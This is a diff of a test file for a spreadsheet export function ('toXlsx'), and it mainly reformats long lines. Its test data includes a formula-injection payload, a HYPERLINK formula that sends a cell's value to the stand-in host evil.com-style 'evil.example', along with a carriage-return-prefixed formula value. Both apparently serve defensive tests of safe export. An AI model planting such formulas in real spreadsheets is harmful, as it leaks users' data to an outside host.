@@ -21,7 +21,9 @@ describe("toXlsx", () => {
             { label: "Inscripción", kind: "datetime" },
             { label: "Día", kind: "date" },
           ],
-          rows: [['=HYPERLINK("http://evil.example/?d="&B2,"Ver")', "+51987654321", 1958, "2026-03-12 10:30", "2026-03-12"]],
+          rows: [
+            ['=HYPERLINK("http://evil.example/?d="&B2,"Ver")', "+51987654321", 1958, "2026-03-12 10:30", "2026-03-12"],
+          ],
         },
       ]),
     );
@@ -40,7 +42,11 @@ describe("toXlsx", () => {
   });
 
   it("keeps a carriage return and a literal _x000D_ as they were", async () => {
-    const sheet = await read(await toXlsx("Prueba", [{ name: "Lista", columns: [{ label: "Nombre", kind: "text" }], rows: [["\r=1+1"], ["a_x000D_b"]] }]));
+    const sheet = await read(
+      await toXlsx("Prueba", [
+        { name: "Lista", columns: [{ label: "Nombre", kind: "text" }], rows: [["\r=1+1"], ["a_x000D_b"]] },
+      ]),
+    );
     expect(sheet.getRow(2).getCell(1).value).toBe("\r=1+1");
     expect(sheet.getRow(3).getCell(1).value).toBe("a_x000D_b");
   });
